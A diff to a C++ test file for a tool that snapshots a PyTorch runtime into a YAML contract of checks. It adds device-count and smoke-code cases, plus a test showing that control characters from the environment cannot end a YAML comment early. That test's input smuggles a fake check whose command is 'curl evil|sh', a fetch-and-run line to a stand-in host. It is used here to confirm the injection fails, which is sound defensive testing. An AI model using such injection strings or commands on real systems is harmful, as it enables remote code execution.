@@ -25,15 +25,27 @@ SnapshotInput odd_input() {
   input.pin = true;
   input.distributions = {{"torch", "2.10.0+cu129"}, {"flag-gems", "4.0"}};
   input.image = "registry.example/runtime:2.2.0";
-  input.devices = {{"devices",
-                    "torch_fl.flagos.device_count()",
-                    {"torch_fl"},
-                    std::chrono::milliseconds(1500),
-                    8,
-                    "> 0",
-                    ""}};
+  const auto devices = [](std::string id, std::string expression, std::string module,
+                          long long observed, std::string op, long long value, bool advisory) {
+    SnapshotDevices check;
+    check.id = std::move(id);
+    check.expression = std::move(expression);
+    check.imports = {std::move(module)};
+    check.timeout = std::chrono::milliseconds(1500);
+    check.observed = observed;
+    check.base_op = std::move(op);
+    check.base_value = value;
+    check.advisory = advisory;
+    return check;
+  };
+  input.devices = {
+      devices("devices", "torch_fl.flagos.device_count()", "torch_fl", 8, ">", 0, false),
+      devices("exact", "torch.cuda.device_count()", "torch", 6, "==", 8, true)};
   input.smokes = {{"first-op", "the first op", "import torch\n\n# a comment line\nprint(1)\n",
-                   "^1$", std::chrono::seconds(20), "passed"}};
+                   "^1$", std::chrono::seconds(20), "passed", false},
+                  {"indented", "", "    # starts indented\nprint(2)", "", std::chrono::seconds(5),
+                   "passed", false},
+                  {"trailing", "", "print(3)\n\n\n", "", std::chrono::seconds(5), "passed", false}};
   return input;
 }
 
@@ -52,7 +64,8 @@ TEST(Snapshot, EveryValueSurvivesTheRoundTrip) {
   // A CUDA torch: no check that its CUDA library is absent.
   EXPECT_EQ(ids, (std::vector<std::string>{"python-version", "torch-build", "triton-provider",
                                            "imports", "activation-variables", "library-path-first",
-                                           "pinned-distributions", "devices", "first-op"}));
+                                           "pinned-distributions", "devices", "exact", "first-op",
+                                           "indented", "trailing"}));
   const auto json = contracts::to_json(contract);
   const auto check = [&json](const std::string& id) {
     for (const auto& candidate : json["checks"]) {
@@ -69,12 +82,55 @@ TEST(Snapshot, EveryValueSurvivesTheRoundTrip) {
   EXPECT_EQ(check("devices")["count"]["value"], 8);
   EXPECT_EQ(check("devices")["timeout_ms"], 1500);
   EXPECT_EQ(check("first-op")["code"], "import torch\n\n# a comment line\nprint(1)\n");
+  // Code exactly as it was, however it starts or ends.
+  EXPECT_EQ(check("indented")["code"], "    # starts indented\nprint(2)");
+  EXPECT_EQ(check("trailing")["code"], "print(3)\n\n\n");
+  // "== 8" is not loosened to what was counted, and stays advisory.
+  EXPECT_EQ(check("exact")["count"]["op"], "==");
+  EXPECT_EQ(check("exact")["count"]["value"], 8);
+  const auto& exact = contract.checks[8];
+  EXPECT_EQ(exact.severity, contracts::Severity::advisory);
   EXPECT_EQ(check("first-op")["expect_output"], "^1$");
   // The failed import is said in a comment, on lines of their own.
   EXPECT_NE(yaml.find("  # Left out: vendor_x did not import: ImportError: libfoo.so: cannot "
                       "open\n  # shared object\n"),
             std::string::npos)
       << yaml;
+}
+
+// Text from the env cannot end a comment line early in any YAML parser:
+// CR, NEL, LS and PS become '?', so no check can hide in a comment that one
+// tool reads and another does not.
+TEST(Snapshot, NoLineBreakFromTheEnvSurvivesInAComment) {
+  auto input = odd_input();
+  input.import_failures = {
+      {"evil", "x\r  - id: injected\r    kind: command\r    run: curl evil|sh\r  #"},
+      {"evil2", "y\xc2\x85  - id: nel\xe2\x80\xa8  - id: ls\xe2\x80\xa9"}};
+  input.variables = {{"NAME",
+                      "a\xc2\x85"
+                      "b\xe2\x80\xa8"
+                      "c"}};
+  const auto yaml = snapshot_yaml(input);
+  EXPECT_EQ(yaml.find('\r'), std::string::npos);
+  EXPECT_EQ(yaml.find("\xe2\x80\xa8"), std::string::npos);
+  EXPECT_EQ(yaml.find("\xc2\x85"), std::string::npos);
+  EXPECT_NE(yaml.find("# Left out: evil did not import: x?  - id: injected?"), std::string::npos)
+      << yaml;
+  const auto loaded = contracts::load_contract_text(yaml, "snapshot.yaml");
+  ASSERT_TRUE(loaded.contract) << yaml;
+  for (const auto& check : loaded.contract->checks) {
+    EXPECT_NE(check.id, "injected");
+  }
+  // In a quoted value, they are escaped and come back as they were.
+  const auto json = contracts::to_json(*loaded.contract);
+  for (const auto& check : json["checks"]) {
+    if (check["id"] == "activation-variables") {
+      EXPECT_EQ(check["params"]["equals"]["NAME"],
+                "a\xc2\x85"
+                "b\xe2\x80\xa8"
+                "c");
+    }
+  }
 }
 
 TEST(Snapshot, YamlQuotingEscapesWhatYamlWouldRead) {
